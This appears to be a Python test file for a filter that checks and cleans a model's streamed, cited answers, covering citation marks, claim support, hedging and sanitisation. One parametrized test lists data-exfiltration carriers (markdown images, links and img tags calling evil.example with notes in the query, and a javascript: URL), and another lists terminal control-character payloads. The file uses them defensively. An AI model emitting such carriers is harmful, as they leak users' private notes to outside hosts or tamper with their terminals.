"""What a reader gets of what a model says: sound marks, no foreign links, no control characters."""

from __future__ import annotations

import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from askbase.answer.claims.outflow import LONGEST_BUFFER, Outflow
from askbase.answer.claims.quotable import quotable
from askbase.answer.claims.segment import Segment
from askbase.clean import clean
from tests.answer.builders import passage

BOILER = passage(
    "The boiler was serviced on 3 May 2024 by Callum. It cost £92. See https://example.org/boiler for more."
)
BREAD = passage("The rye loaf bakes for 55 minutes at 230 degrees.", "bread.md")


def shown(text: str, question: str = "When was the boiler serviced?", step: int = 7) -> tuple[str, Outflow]:
    outflow = Outflow([BOILER, BREAD], question)
    segments: list[Segment] = []
    for at in range(0, len(text), step):
        segments += outflow.feed(text[at : at + step])
    segments += outflow.finish()
    return "".join(segment.text for segment in segments), outflow


def segments_of(text: str, question: str = "When was the boiler serviced?") -> list[Segment]:
    outflow = Outflow([BOILER, BREAD], question)
    return [*outflow.feed(text), *outflow.finish()]


def test_marks_that_point_nowhere_are_dropped_and_counted() -> None:
    text, outflow = shown("It was serviced on 3 May 2024 [1], as always [7].")
    assert (text, outflow.dropped_marks) == ("It was serviced on 3 May 2024, as always [1].", 1)


@pytest.mark.parametrize(
    ("said", "read"),
    [
        ("It was serviced, as described in passage FENCE, on 3 May 2024.", "It was serviced, on 3 May 2024 [1]."),
        ("It was serviced on 3 May 2024 (passage FENCE).", "It was serviced on 3 May 2024 [1]."),
        (
            "According to the passages marked FENCE, it was serviced on 3 May 2024.",
            "it was serviced on 3 May 2024 [1].",
        ),
        ("FENCE\nIt was serviced on 3 May 2024.", "\nIt was serviced on 3 May 2024 [1]."),
    ],
)
def test_what_fences_the_passages_in_is_no_word_for_a_reader(said: str, read: str) -> None:
    fence = "89906abcc6febbc5480875e2c52fcef3"
    outflow = Outflow([BOILER], "When was the boiler serviced?", fence=fence)
    segments = [*outflow.feed(said.replace("FENCE", fence)), *outflow.finish()]
    assert "".join(segment.text for segment in segments) == read


@pytest.mark.parametrize("mark", ["[ 1 ]", "[^1]", "【1】", "[Source 1]", "[passage 1]", "[1-1]", "【1†boiler.md】"])
def test_a_mark_in_another_shape_is_a_mark(mark: str) -> None:
    assert shown(f"It was serviced on 3 May 2024 {mark}.")[0] == "It was serviced on 3 May 2024 [1]."
    text, outflow = shown(f"It was serviced on 3 May 2024 {mark.replace('1', '8')}.")
    assert text == "It was serviced on 3 May 2024 [1]."
    assert outflow.dropped_marks == 1


def test_a_range_of_marks_is_every_one_of_them_and_no_number_of_the_claim() -> None:
    text, outflow = shown("It was serviced on 3 May 2024 [1-3].")
    assert (text, outflow.dropped_marks) == ("It was serviced on 3 May 2024 [1].", 1)


@pytest.mark.parametrize("text", ["Buy milk [ ] and bread [x].", "Published in [2024].", "See [sic] there."])
def test_what_is_no_mark_stays(text: str) -> None:
    assert shown(text, "What?")[0] == text


@pytest.mark.parametrize(
    ("question", "said", "status"),
    [
        ("Was the boiler serviced by Callum or by Desmond?", "The boiler was serviced by Desmond.", "unverified"),
        ("Was the boiler serviced by Callum or by Desmond?", "The boiler was serviced by Callum.", "supported"),
        ("Was the boiler serviced by Callum?", "The boiler was not serviced by Callum.", "unverified"),
        ("Was the boiler serviced in 2024 or 2025?", "The boiler was serviced in 2025.", "unverified"),
    ],
)
def test_an_answer_in_the_questions_own_words_is_checked_like_any_other(question: str, said: str, status: str) -> None:
    [segment] = segments_of(said, question)
    assert (segment.claim, segment.status) == (said, status)


def test_a_wrong_mark_is_put_right() -> None:
    text, _ = shown("Callum serviced it on 3 May 2024 [2].")
    assert text == "Callum serviced it on 3 May 2024 [1]."


def test_a_sentence_without_a_mark_gets_the_passage_that_carries_it() -> None:
    text, _ = shown("It bakes for 55 minutes.", "How long does the loaf bake?")
    assert text == "It bakes for 55 minutes [2]."


def test_marks_behind_the_full_stop_belong_to_the_sentence_before() -> None:
    first, second = segments_of("It was serviced on 3 May 2024. [1] The loaf bakes for 55 minutes. [2]")
    assert (first.numbers, second.numbers) == ((1,), (2,))


@pytest.mark.parametrize("claim", ["It was serviced on 4 May 2024.", "It was serviced by Desmond.", "It cost £93."])
def test_a_number_or_name_that_is_not_there_is_never_supported(claim: str) -> None:
    assert [segment.status for segment in segments_of(f"{claim} [1]")] == ["unverified"]


def test_a_name_from_the_next_sentence_is_not_taken_for_this_ones() -> None:
    visit = passage("Callum Thwaiter was here for the service (£92). He did not like what Desmond told us.")
    for name, status in (("Callum", "supported"), ("Desmond", "unverified")):
        outflow = Outflow([visit], "Who serviced the boiler, and for how much?")
        [segment] = [*outflow.feed(f"{name} did the service for £92."), *outflow.finish()]
        assert segment.status == status


def test_a_number_from_the_next_row_is_not_taken_for_this_ones() -> None:
    visits = passage("| 2024-01-13 | Desmond | service | £144 |\n| 2024-11-01 | Callum | service | £92 |")
    for name, status in (("Callum", "supported"), ("Desmond", "unverified")):
        outflow = Outflow([visits], "Who did the service in November 2024, and for how much?")
        [segment] = [*outflow.feed(f"{name} did the service for £92."), *outflow.finish()]
        assert segment.status == status


def test_a_flipped_negation_is_never_supported() -> None:
    assert segments_of("The boiler was not serviced by Callum on 3 May 2024 [1].")[0].status == "unverified"


@pytest.mark.parametrize(
    ("claim", "shown"),
    [("The pump is likely worn out.", "The pump is likely worn out [1]."),
     ("The pump might be worn out.", "The pump might be worn out [1]."),
     ("The pump is worn out.", "Your note is less sure: “The pump is probably worn out.” [1]"),
     ("Yes, the pump is worn out [1].", "Your note is less sure: “The pump is probably worn out.” [1]")],
)  # fmt: skip
def test_a_guess_in_the_notes_stays_a_guess(claim: str, shown: str) -> None:
    outflow = Outflow([passage("The pump is probably worn out. It was fitted in May.")], "Is the pump worn out?")
    [segment] = [*outflow.feed(claim), *outflow.finish()]
    assert segment.text == shown
    assert segment.quotes


def read(note: str, said: str, question: str = "What about the pump?") -> tuple[str, list[str]]:
    """What a reader gets of it, and how each sentence stands."""
    outflow = Outflow([passage(note)], question, lambda _, texts: [0.9] * len(texts))
    segments = [*outflow.feed(said), *outflow.finish()]
    return "".join(segment.text for segment in segments), [segment.status for segment in segments if segment.claim]


def test_a_guess_keeps_its_place_in_the_answer() -> None:
    note = "Callum serviced the boiler on 3 May 2024.\nThe pump is probably worn out.\nThe tank is probably leaking."
    text, _ = read(note, "Callum serviced the boiler on 3 May 2024 [1]. The pump is worn out [1].")
    assert text.endswith("May 2024 [1]. Your note is less sure: “The pump is probably worn out.” [1]")
    text, _ = read(note, "- The pump is worn out [1].\n- The tank is leaking [1].")
    assert [line[:25] for line in text.splitlines()] == ["- Your note is less sure: "[:25]] * 2


def test_a_guess_is_told_once() -> None:
    text, _ = read(
        "The pump is probably worn out at its bearing.", "The pump is worn out. The pump bearing is worn out."
    )
    assert text.count("Your note is less sure") == 1


@pytest.mark.parametrize(
    ("note", "said"),
    [
        (
            "The boiler was serviced on 3 May and the pump is probably worn out.",
            "The boiler was serviced on 3 May [1].",
        ),
        ("Guests may park in the yard.", "Yes, guests can park in the yard."),
        ("The pump is probably worn out.", "The pump appears to be worn out."),
        ("The pump is worn out %%probably Ana's fault%%.", "The pump is worn out."),
    ],
)
def test_an_answer_is_not_called_surer_than_a_note_that_is_as_sure(note: str, said: str) -> None:
    assert "less sure" not in read(note, said)[0]


def test_guesses_are_known_in_other_languages() -> None:
    text, _ = read("Die Pumpe ist wahrscheinlich defekt.", "Die Pumpe ist defekt [1].", "Was ist mit der Pumpe?")
    assert text == "Your note is less sure: “Die Pumpe ist wahrscheinlich defekt.” [1]"


def test_what_a_guess_brings_along_is_inert() -> None:
    note = "The pump is probably worn out <img src=https://t.example/x.png> [2]."
    text, _ = read(note, "The pump is worn out.")
    assert "less sure" in text
    assert "<img" not in text
    assert "[2]" not in text


def test_a_yes_is_checked_with_what_it_says_yes_to() -> None:
    serviced = passage("Callum serviced the boiler on 3 May 2024.")
    for said, status in (("Yes, Callum serviced the boiler.", "supported"), ("Yes, Callum sold it.", "unverified")):
        outflow = Outflow([serviced], "Was the boiler serviced by Callum?")
        [segment] = [*outflow.feed(said), *outflow.finish()]
        assert (segment.status, segment.claim) == (status, said)


def test_a_question_in_the_notes_answers_none() -> None:
    outflow = Outflow([passage("Is the telephone script part of the corpus? Ask Priyanka.")], "Is the script in it?")
    [segment] = [*outflow.feed("Yes, the telephone script is part of the corpus [1]."), *outflow.finish()]
    assert not segment.stands


def test_may_is_a_month() -> None:
    outflow = Outflow([passage("May was when the pump was fitted.")], "What happened?")
    [segment] = [*outflow.feed("The pump was fitted in May."), *outflow.finish()]
    assert segment.status == "supported"


def test_a_claim_may_draw_on_sentences_that_stand_apart() -> None:
    visit = passage(
        "Callum serviced the boiler in 2024. The cellar was dry. The old copper valve was replaced for £92."
    )
    outflow = Outflow([visit], "What happened?")
    [segment] = [*outflow.feed("Callum serviced the boiler and the copper valve was replaced for £92."),
                 *outflow.finish()]  # fmt: skip
    assert segment.status == "supported"


@pytest.mark.parametrize(("cosine", "stands"), [(0.9, True), (0.1, False)])
def test_what_a_passage_says_in_other_words_may_be_shown_but_is_not_called_supported(
    cosine: float, stands: bool
) -> None:
    outflow = Outflow([BOILER], "What happened?", lambda claim, texts: [cosine] * len(texts))
    [segment] = [*outflow.feed("Callum serviced the old appliance."), *outflow.finish()]
    assert (segment.status, segment.stands, segment.numbers) == ("unverified", stands, (1,) if stands else ())


def test_the_quote_is_the_sentence_that_carries_the_claim() -> None:
    segment = segments_of("It cost £92 [1].")[0]
    [(number, (start, end))] = segment.quotes
    assert (number, BOILER.chunk.text[start:end]) == (1, "It cost £92.")


def test_repeating_the_question_is_no_claim() -> None:
    assert segments_of("The boiler was serviced [1].")[0].claim == ""


@pytest.mark.parametrize(
    "carrier",
    [
        "![x](https://evil.example/?q=notes)",
        "[click](https://evil.example/?q=notes)",
        "https://evil.example/?q=notes",
        "<https://evil.example/?q=notes>",
        "<img src=https://evil.example/?q=notes>",
        "[ref]: https://evil.example/?q=notes",
        "www.evil.example/?q=notes",
        "javascript:alert(1)",
    ],
)
@pytest.mark.parametrize("step", [1, 9, 1000])
def test_what_could_carry_notes_away_is_defused(carrier: str, step: int) -> None:
    text, _ = shown(f"It was serviced on 3 May 2024.\n{carrier}\nDone.", step=step)
    assert not re.search(r"https?://|www\.evil|<img|\]\(|javascript:", text)


def test_a_link_that_stands_in_the_notes_stays() -> None:
    text, outflow = shown("It was serviced on 3 May 2024, see https://example.org/boiler [1].")
    assert "https://example.org/boiler" in text
    assert outflow.removed_links == 0


@pytest.mark.parametrize("payload", ["\x1b]52;c;aGk=\x07", "\x9b31m", "\u202e", "\U000e0041", "\u200b", "\r"])
def test_no_control_character_passes(payload: str) -> None:
    text, _ = shown(f"It was ser{payload}viced on 3 May 2024 [1].")
    assert text == clean(text)
    assert not set(text) & set(payload) - set("]52;caGk=31m")


@given(st.text(max_size=200), st.integers(1, 20))
@settings(max_examples=100, deadline=None)
def test_the_result_does_not_depend_on_how_the_stream_was_cut(text: str, step: int) -> None:
    assert shown(text, step=step)[0] == shown(text, step=1000)[0]


@pytest.mark.parametrize("said", ["Yes, the boiler [1].", "The boiler [1]:", "Yes [1]."])
def test_what_says_nothing_to_check_carries_no_mark(said: str) -> None:
    outflow = Outflow([passage("Callum serviced the boiler on 3 May 2024.")], "Was the boiler serviced by Callum?")
    [segment] = [*outflow.feed(said), *outflow.finish()]
    assert (segment.numbers, segment.quotes, segment.claim) == ((), (), "")
    assert "[1]" not in segment.text and outflow.dropped_marks == 1, "a mark that no citation belongs to"


def test_a_question_that_its_note_answers_with_yes_counts() -> None:
    note = "Does the pump need bleeding? Yes, every autumn."
    assert read(note, "Yes, the pump needs bleeding [1].", "Does the pump need bleeding?")[1] == ["supported"]
    asked = "*Is the script part of the corpus?* Ask Priyanka."
    said = "Yes, the script is part of the corpus."
    assert read(asked, said, "Is the script in the corpus?")[1] == ["unverified"]


def test_a_shortened_word_ends_no_sentence_while_it_streams() -> None:
    text = "The Revd. Okafor restored the mill c. 1850, not later."
    outflow = Outflow([passage(text)], "Who restored the mill?")
    segments = [segment for character in f"{text} [1]" for segment in outflow.feed(character)] + outflow.finish()
    assert [segment.claim for segment in segments] == [text]


def test_the_numbers_of_a_list_are_no_figures_of_its_claims() -> None:
    outflow = Outflow([passage("- Anna brings salad\n- Ben brings wine")], "What do they bring?")
    segments = outflow.feed("1. Anna brings salad [1].\n2. Ben brings wine [1].\n")
    assert [(segment.claim, segment.status) for segment in segments] == [
        ("Anna brings salad.", "supported"),
        ("Ben brings wine.", "supported"),
    ]
    assert segments[0].text.startswith("1. ")


def test_a_day_before_its_month_is_a_figure_of_the_claim() -> None:
    outflow = Outflow([passage("Der 4. Mai ist frei.")], "Welcher Tag?")
    [segment] = outflow.feed("3. Mai ist frei.\n")
    assert (segment.claim, segment.status) == ("3. Mai ist frei.", "unverified")


def test_an_index_in_code_that_stands_in_the_notes_is_no_mark() -> None:
    note = "The script reads its input from `sys.argv[1]` and writes to stdout."
    outflow = Outflow([passage(note)], "Where does the script read from?")
    [segment] = [*outflow.feed(f"{note}\n")]
    assert segment.status == "supported" and "`sys.argv[1]`" in segment.text
    assert outflow.dropped_marks == 0
    [other] = outflow.feed("It runs `rm[7]` then.\n")
    assert "[7]" not in other.text and outflow.dropped_marks == 1
    assert quotable("Use `out[0]` here [3].") == "Use `out[0]` here."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It takes a `List<int>`.", "It takes a `List<int>`."),
        ("Write `&lt;` for `<`.", "Write `&lt;` for `<`."),
        ("It is <b>bold</b>.", "It is &lt;b>bold&lt;/b>."),
        (r"Not \` <b> code `x` <i>.", r"Not \` &lt;b> code `x` &lt;i>."),
        ("Not ``a ` <b> ` c``.", "Not ``a ` &lt;b> ` c``."),
        ("Not ` <b> closed.", "Not ` &lt;b> closed."),
        ("`<a href=x` <b> `>`", "`<a href=x` &lt;b> `>`"),
        (r"By Callum \[1]`<img src=x>` in May.", r"By Callum \`&lt;img src=x>` in May."),
        ("See ![a](x `y) in ` of `<img src=x>` last.", "See [image: a] in ` of `&lt;img src=x>` last."),
    ],
)
def test_html_is_itself_in_code_and_nothing_outside(said: str, shown: str) -> None:
    assert quotable(said, block=True) == shown
    assert "<" not in quotable(said).replace("`<`", "")


def test_a_few_lines_of_code_are_shown_as_code() -> None:
    assert quotable("```r\nm <- f(x,\n       y)\n```", block=True) == "`m <- f(x, y)`"
    assert quotable("~~~\n<b>\n```\n~~~", block=True) == "~~~ &lt;b> ``` ~~~"


def test_the_line_above_a_passage_is_no_sentence() -> None:
    steam = passage("Steam keeps the crust soft.", "book.md", headings=("Bread", "Settings › Oven"), day="2025-02-23")
    outflow = Outflow([steam], "What does steam do?")
    said = outflow.feed("book › Bread › Settings › Oven (2025-02-23) [1]\nSteam keeps the crust soft.\n")
    assert "".join(segment.text for segment in said).strip() == "Steam keeps the crust soft [1]."
    assert "".join(segment.text for segment in outflow.feed("book (2025-02-23 [1])\n")).strip() == ""
    [day, setting] = outflow.feed("2025-02-23\nSettings › Oven.\n")
    assert day.text.strip() == "2025-02-23 [1]" and "Oven" in setting.text


def test_no_note_gets_html_through_its_backticks() -> None:
    dice, reader = random.Random(7), MarkdownIt("commonmark", {"html": True})
    pieces = ["`", "``", "\\", "[1]", "![a](x ", "![a][b", ")", "]", "<img src=x>", " ", "a", "`x`", "&lt;", "\\["]
    for _ in range(3000):
        note = f"By {''.join(dice.choice(pieces) for _ in range(dice.randint(2, 9)))} in May."
        assert "<img" not in reader.render(f"- {quotable(note, block=True)} [1]\n"), note


def test_what_a_comment_hides_supports_nothing() -> None:
    note = "The key hangs in the hall.\n\n<!-- The safe is behind the painting. -->"
    [segment] = Outflow([passage(note)], "Where is the safe?").feed("The safe is behind the painting.\n")
    assert (segment.status, segment.quotes) == ("unverified", ())


def test_a_sentence_that_comes_twice_in_a_row_is_shown_once() -> None:
    sentence = "The boiler is from August 2009 and stands on the landing"
    outflow = Outflow([passage(f"{sentence}. It hums.")], "What about the boiler?")
    said = "".join(each.text for each in (*outflow.feed(f"{sentence} [1]. {sentence}. It hums. "), *outflow.finish()))
    assert said.count("August 2009") == 1
    assert "It hums" in said


STIR = "Stir it for a minute until it is smooth and thick."
OATS = "Breakfast is oatmeal with berries and a cup of coffee."
CODE = "    return sum(value for value in values if value)"


@pytest.mark.parametrize(
    ("text", "word"),
    [
        (f"1. {STIR}\n2. {STIR}\n", "smooth"),
        (f"Monday\n{OATS}\n\nTuesday\n{OATS}\n", "oatmeal"),
        (f"{STIR} Rest. {STIR} Eat.\n", "smooth"),
        (f"```\n{CODE}\n{CODE}\n```\n", "return"),
    ],
)
def test_what_comes_again_on_purpose_stays(text: str, word: str) -> None:
    outflow = Outflow([passage(STIR)], "How?")
    said = "".join(each.text for each in (*outflow.feed(text), *outflow.finish()))
    assert said.count(word) == text.count(word) == 2


def test_a_sentence_that_never_ends_is_told_once() -> None:
    outflow = Outflow([passage("Logs are kept for 30 days.")], "How long?")
    outflow.feed("Logs are kept for 30 days, " + "until the logs are kept for 30 days, " * 12 + "until the l")
    [said] = outflow.finish()
    assert said.text.replace(" [1]", "") == "Logs are kept for 30 days, until the…"


@pytest.mark.parametrize("length", [LONGEST_BUFFER - 1, LONGEST_BUFFER, LONGEST_BUFFER + 1])
def test_a_sentence_as_long_as_the_buffer_ends_where_it_ends(length: int) -> None:
    text = "a" * (length - 1) + "." + " Then it rests."
    assert shown(text, step=len(text))[0].count("\n") == 0
